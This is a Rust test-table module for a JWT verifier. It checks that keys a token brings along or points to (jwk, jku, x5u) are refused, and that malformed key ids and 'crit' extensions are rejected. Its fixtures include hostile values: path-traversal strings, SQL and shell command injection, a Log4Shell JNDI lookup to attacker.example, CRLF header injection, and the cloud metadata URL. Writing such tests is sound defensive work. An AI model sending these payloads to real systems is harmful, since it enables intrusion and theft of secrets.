use serde_json::{Value, json};

use super::{BAD_SIGNATURE, MALFORMED, Table, UNKNOWN_KEY, UNSUPPORTED};
use crate::case::OTHER_ISSUER;
use crate::{Algorithm, KeyError, Setting};

/// The key is the issuer's, never one that the token brings or points to.
pub(super) fn fill(table: &mut Table) -> Result<(), KeyError> {
    brought_along(table)?;
    named(table)?;
    extensions(table)?;
    others(table)
}

fn brought_along(table: &mut Table) -> Result<(), KeyError> {
    table.class("a key that the token brings along");
    let evil = "https://attacker.example/keys.json";
    let own = table
        .keys
        .jwks()
        .pointer("/keys/1")
        .cloned()
        .unwrap_or_default();
    for (name, member, value) in [
        ("jwk", "jwk", own),
        ("a secret as jwk", "jwk", json!({"kty": "oct", "k": "AAAA"})),
        ("no jwk at all", "jwk", json!(7)),
        ("jku", "jku", json!(evil)),
        ("jku of a file", "jku", json!("file:///proc/self/environ")),
        (
            "jku of the cloud's",
            "jku",
            json!("http://169.254.169.254/latest/"),
        ),
        ("x5u", "x5u", json!(evil)),
        ("x5c", "x5c", json!(["MIIB", "AAAA"])),
        ("x5t", "x5t", json!("AAAA")),
        ("x5t#S256", "x5t#S256", json!("AAAA")),
    ] {
        let stranger = table
            .token()
            .header(member, value.clone())
            .signed_by_a_stranger();
        table.seen(
            format!("{name}, signed by a stranger"),
            stranger.sign()?,
            BAD_SIGNATURE,
        );
        let nameless = stranger.without_header("kid");
        table.seen(
            format!("{name}, naming no key"),
            nameless.sign()?,
            BAD_SIGNATURE,
        );
        table.admitted(
            format!("{name}, signed by the issuer"),
            table.token().header(member, value).sign()?,
        );
    }
    table.admitted("no key's name", table.token().without_header("kid").sign()?);
    Ok(())
}

fn named(table: &mut Table) -> Result<(), KeyError> {
    table.class("a key's name that is something else");
    for kid in [
        "",
        ".",
        "..",
        "/",
        "../../../../dev/null",
        "..\\..\\secret",
        "/proc/self/environ",
        "file:///etc/passwd",
        "https://attacker.example/key",
        "//attacker.example/key",
        "' OR '1'='1",
        "1; DROP TABLE keys --",
        "1 UNION SELECT 'a'",
        "$(id)",
        "`id`",
        "|id",
        "%00",
        "%2e%2e%2f",
        "{{7*7}}",
        "${jndi:ldap://attacker.example/a}",
        "*",
        "null",
        "0",
        "\0",
        "development-rs256\0",
        "development-rs256 ",
        " development-rs256",
        "Development-RS256",
        "development-rs25",
        "development-rs2566",
        "development\u{2010}rs256",
        "\r\nx-user: root",
    ] {
        let token = table.token().header("kid", kid);
        table.unseen(
            format!("`{}`", kid.escape_debug()),
            token.sign()?,
            UNKNOWN_KEY,
        );
    }
    let long = table.token().header("kid", "k".repeat(10_000));
    table.unseen("10 kB of it", long.sign()?, UNKNOWN_KEY);
    for (name, value) in [
        ("a number", json!(1)),
        ("null", Value::Null),
        ("an array", json!(["development-rs256"])),
        ("an object", json!({"development-rs256": 1})),
        ("a truth", json!(true)),
    ] {
        table.unseen(name, table.token().header("kid", value).sign()?, MALFORMED);
    }
    Ok(())
}

fn extensions(table: &mut Table) -> Result<(), KeyError> {
    table.class("an extension that has to be understood");
    for (name, crit) in [
        ("b64", json!(["b64"])),
        ("exp", json!(["exp"])),
        ("none", json!([])),
        ("null", Value::Null),
        ("text", json!("exp")),
        ("a number", json!(1)),
        ("itself", json!(["crit"])),
        ("of nobody's", json!(["http://attacker.example/x"])),
    ] {
        let token = table.token().header("crit", crit).header("b64", false);
        table.unseen(name, token.sign()?, UNSUPPORTED);
    }
    // RFC 7797 §6: without `crit` it means nothing, and the payload was signed encoded.
    table.admitted(
        "`b64: false` that nothing has to understand",
        table.token().header("b64", false).sign()?,
    );
    table.admitted(
        "`zip`, which is for encryption",
        table.token().header("zip", "DEF").sign()?,
    );

    table.class("a token of another type");
    for (typ, fits) in [
        ("JWT", false),
        ("logout+jwt", false),
        ("at+jwt", true),
        ("application/at+jwt", true),
    ] {
        let token = table.token().header("typ", typ).sign()?;
        if fits {
            table.admitted(typ, token);
        } else {
            table.unseen(typ, token, "wrong_type");
        }
        table.under(Setting::Typed);
    }
    table.unseen(
        "no type",
        table.token().without_header("typ").sign()?,
        "wrong_type",
    );
    table.under(Setting::Typed);
    Ok(())
}

fn others(table: &mut Table) -> Result<(), KeyError> {
    table.class("a key of another issuer");
    // The other issuer's set has the same names for the other keys.
    let other = table.token().claim("iss", OTHER_ISSUER);
    table.unseen(
        "RS256 for the other, whose key of that name is EC",
        other.sign()?,
        UNKNOWN_KEY,
    );
    table.under(Setting::TwoIssuers);
    let es256 = other.clone().algorithm(Algorithm::Es256).sign()?;
    table.unseen(
        "ES256 for the other, whose key of that name is RSA",
        es256,
        UNKNOWN_KEY,
    );
    table.under(Setting::TwoIssuers);
    let theirs = other.clone().header("kid", Algorithm::Es256.key_id());
    table.admitted("RS256 for the other, by its own name", theirs.sign()?);
    table.under(Setting::TwoIssuers);
    let ours = theirs.claim("iss", crate::ISSUER);
    table.unseen("that name for the first", ours.sign()?, UNKNOWN_KEY);
    table.under(Setting::TwoIssuers);
    table.unseen(
        "the other where there is none",
        other.sign()?,
        "wrong_issuer",
    );
    Ok(())
}
